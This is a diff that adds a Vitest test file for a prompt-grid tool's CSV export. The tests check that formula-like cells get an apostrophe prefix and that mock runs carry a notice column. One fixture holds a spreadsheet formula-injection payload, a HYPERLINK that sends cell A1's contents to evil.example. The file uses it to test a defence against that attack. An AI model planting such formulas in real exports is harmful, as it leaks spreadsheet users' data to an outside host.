@@ -1,0 +1,52 @@
+import Papa from 'papaparse';
+import { describe, expect, it } from 'vitest';
+import { MOCK_OUTPUTS_NOTE } from '@promptgrid/contract';
+import { cellKey } from '../lib/results-index';
+import type { GridCell, GridData } from './grid-data';
+import { gridCsv } from './csv';
+
+const cell = (output: string | null, error: string | null = null): GridCell => ({
+  status: output === null ? 'FAILED' : 'SUCCESS',
+  output,
+  error,
+  seconds: 1,
+  inputTokens: 2,
+  outputTokens: 3,
+});
+
+/** One user prompt and two system prompts whose texts a spreadsheet would run. */
+const hostile: GridData = {
+  rows: [{ id: 1, name: '@name', content: '-1+2', expected: null }],
+  columns: [
+    { id: 10, name: '+Terse', model: 'openai - gpt-4.1' },
+    { id: 20, name: 'Warm', model: 'openai - gpt-4.1' },
+  ],
+  cells: new Map([
+    [cellKey(1, 10), cell('=HYPERLINK("http://evil.example/?"&A1)\nthen more lines')],
+    [cellKey(1, 20), cell(null, '\tERROR')],
+  ]),
+};
+
+describe('the results CSV', () => {
+  it('prefixes every cell a spreadsheet would run as a formula, multi-line outputs included', () => {
+    const [, first, second] = Papa.parse<string[]>(gridCsv(hostile)).data;
+    expect(first.slice(0, 6)).toEqual([
+      "'@name",
+      "'-1+2",
+      "'+Terse",
+      'openai - gpt-4.1',
+      'SUCCESS',
+      `'=HYPERLINK("http://evil.example/?"&A1)\nthen more lines`,
+    ]);
+    expect(second[6]).toBe("'\tERROR");
+    // Numbers stay numbers.
+    expect(first.slice(7, 10)).toEqual(['1', '2', '3']);
+  });
+
+  it("starts a mock run's file with a notice column that says so on every row", () => {
+    const [header, ...rows] = Papa.parse<string[]>(gridCsv({ ...hostile, mock: true })).data;
+    expect(header.slice(0, 2)).toEqual(['notice', 'input_name']);
+    expect(rows.map((row) => row[0])).toEqual([MOCK_OUTPUTS_NOTE, MOCK_OUTPUTS_NOTE]);
+    expect(Papa.parse<string[]>(gridCsv(hostile)).data[0]![0]).toBe('input_name');
+  });
+});
